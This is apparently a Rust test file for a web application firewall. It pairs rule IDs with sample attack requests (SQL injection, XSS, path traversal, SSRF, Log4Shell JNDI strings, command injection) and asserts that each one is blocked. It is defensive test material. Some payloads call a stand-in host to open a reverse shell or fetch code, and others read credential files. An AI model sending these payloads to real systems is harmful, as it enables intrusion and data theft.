//! Attacks in their plain forms: each is found by the rule that is there for it, and refused.

use std::collections::BTreeSet;

use firewall::baseline;

use crate::request::{FORM, JSON, XML, field, found, get, post, upload, with};

/// The rules that have to find something, each with what.
fn attacks() -> Vec<(u32, Vec<u8>)> {
    let mut attacks = Vec::new();
    let mut add = |rule: u32, requests: Vec<Vec<u8>>| attacks.extend(requests.into_iter().map(|one| (rule, one)));
    add(66_010_010, vec![get("/download?file=a.pdf%00.jpg"), get("/a%00.php"), with("X-Name", "a%00b")]);
    add(
        66_010_020,
        vec![
            get("/go?to=%0d%0aSet-Cookie:%20session=1"),
            get("/a%0d%0aLocation:%20https://example.net"),
            get("/?q=1%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
        ],
    );
    add(66_010_030, vec![post("text/html; charset=utf-7", "a"), post("application/json; charset=\"ibm037\"", "{}")]);
    add(66_010_040, vec![with("Range", &format!("bytes={}1-2", "0-1,".repeat(40)))]);
    add(
        66_010_050,
        vec![with("User-Agent", "sqlmap/1.7#stable (https://sqlmap.org)"), with("User-Agent", "Nikto/2.5")],
    );
    add(66_020_010, vec![get("/images/../../etc/passwd"), get("/a/%2e%2e/%2e%2e/b"), get("/a/..%5c..%5cb")]);
    add(
        66_020_020,
        vec![
            get("/?file=../../../../etc/passwd"),
            get("/?file=..%2f..%2f..%2fwindows"),
            get("/?file=../passwd"),
            post(JSON, r#"{"a":{"path":"..\\..\\web.config"}}"#),
            get("/?file=....//....//etc/hosts"),
        ],
    );
    add(66_020_030, vec![get("/a/%c0%ae%c0%ae/b"), get("/?f=%252e%252e%252fetc"), get("/%u2215etc")]);
    add(
        66_020_040,
        vec![
            get("/?file=/etc/passwd"),
            get("/?page=C:%5Cwindows%5Cwin.ini"),
            get("/?p=/proc/self/environ"),
            get("/?p=WEB-INF/web.xml"),
            get("/?f=~/.ssh/id_rsa"),
        ],
    );
    add(66_020_050, vec![get("/.git/config"), get("/.env"), get("/shop/.svn/entries"), get("/wp-config.php.bak")]);
    add(66_020_060, vec![get("/?p=php://filter/convert.base64-encode/resource=a"), get("/?u=file:///etc/issue")]);
    add(
        66_020_070,
        vec![
            get("/?url=http://169.254.169.254/latest/meta-data/"),
            get("/?u=http://2852039166/"),
            field("http://[fd00:ec2::254]/"),
        ],
    );
    add(66_020_080, vec![get("/?page=http://192.0.2.9/shell.txt"), get("/?page=https://example.net/c99.txt%3f")]);
    add(
        66_030_010,
        vec![
            get("/?id=1%27%20OR%20%271%27=%271"),
            field("x' UNION SELECT name, password FROM users--"),
            post(JSON, r#"{"user":"admin' or 1=1--"}"#),
            with("Cookie", "id=1' or '1'='1"),
            get("/?id=1;drop%20table%20users--"),
        ],
    );
    add(
        66_030_020,
        vec![
            get("/?id=1%20and%20sleep(5)"),
            field("1; WAITFOR DELAY '0:0:5'--"),
            get("/?id=1/**/union/**/select/**/null,null"),
            with("X-Forwarded-For", "1' and benchmark(5000000,md5(1))#"),
            get("/?id=1%20union%20select%20name,pass%20from%20users"),
        ],
    );
    add(66_030_030, vec![get("/login?user=admin&pass[$ne]=1"), post(FORM, "user%5B%24regex%5D=.*")]);
    add(66_030_040, vec![get("/?user=*)(uid=*))(|(uid=*"), get("/?user=admin)(|(password=*))")]);
    add(
        66_040_010,
        vec![
            get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
            field("<img src=x onerror=alert(1)>"),
            post(JSON, r#"{"a":["<svg onload=alert(1)>"]}"#),
            with("Referer", "https://example.net/?<script>alert(1)</script>"),
        ],
    );
    add(
        66_040_020,
        vec![
            get("/?next=javascript:alert(document.domain)"),
            field("<iframe src=//example.net>"),
            get("/?q=%22;alert(1)//"),
            field("'-document.cookie-'"),
        ],
    );
    add(
        66_050_010,
        vec![
            get("/ping?host=127.0.0.1;cat%20/etc/passwd"),
            get("/ping?host=127.0.0.1%7Cid"),
            field("$(curl http://192.0.2.9/x)"),
            field("a && wget http://192.0.2.9/x"),
            field("`whoami`"),
            post(JSON, r#"{"host":"a; bash -i"}"#),
        ],
    );
    add(
        66_050_020,
        vec![field("cat${IFS}/etc/hosts"), field("x /bin/sh -c id"), field("bash >& /dev/tcp/192.0.2.9/4444 0>&1")],
    );
    add(66_050_030, vec![field("a;c'a't /e\\tc/passwd"), get("/?c=/bin/c%22%22at%20x")]);
    add(66_050_040, vec![with("User-Agent", "() { :; }; echo 1"), with("X-Any", "() { :;};/bin/true")]);
    add(
        66_050_050,
        vec![
            field("a & net user"),
            field("cmd.exe /c dir"),
            field("powershell -enc SQBFAFgA"),
            field("x | type C:\\boot"),
        ],
    );
    add(
        66_060_010,
        vec![
            with("User-Agent", "${jndi:ldap://192.0.2.9/a}"),
            with("X-Api-Version", "${${lower:j}ndi:rmi://192.0.2.9/a}"),
            get("/?q=$%7B${::-j}ndi:dns://x%7D"),
        ],
    );
    add(
        66_060_020,
        vec![
            get("/?class.module.classLoader.resources.context=1"),
            field("%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}"),
            with("Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"),
            with("Cookie", "s=rO0ABXNyABE"),
        ],
    );
    add(
        66_060_030,
        vec![field("<?php echo 1;"), field("eval($_POST['a'])"), with("Cookie", "u=O:4:\"User\":1:{s:1:\"a\";i:1;}")],
    );
    add(
        66_060_040,
        vec![
            post(JSON, r#"{"__proto__":{"admin":true}}"#),
            field("require('child_process').exec('id')"),
            get("/?__proto__[admin]=1"),
            field("this.constructor.constructor('return process')()"),
        ],
    );
    add(66_060_050, vec![field("{{7*7}}"), field("${7*7}"), field("{{ ''.__class__.__mro__[1].__subclasses__() }}")]);
    add(66_060_060, vec![field("<!--#exec cmd=\"id\" -->"), with("User-Agent", "<!-- #include virtual=\"/a\" -->")]);
    add(
        66_060_070,
        vec![
            post(XML, "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><a>&x;</a>"),
            field("<!ENTITY % p PUBLIC \"a\" \"b\">"),
        ],
    );
    add(66_060_080, vec![upload("shell.php", "x"), upload("a.php.jpg", "x"), upload("a.jsp ", "x")]);
    attacks
}

/// The rules that attacks are listed for.
pub(crate) fn rules() -> BTreeSet<u32> {
    attacks().into_iter().map(|(rule, _)| rule).collect()
}

#[test]
fn attacks_are_found_by_the_rule_for_them_and_refused() {
    let mut missed = String::new();
    let attacks = attacks();
    for (rule, request) in &attacks {
        let (stopped, rules, told) = found(request);
        if !stopped || !rules.contains(rule) || !rules.contains(&baseline::DECISION) {
            missed += &format!("{rule}: {}\n{told}", String::from_utf8_lossy(request));
        }
    }
    eprintln!("{} attacks", attacks.len());
    assert!(missed.is_empty(), "{missed}");
}
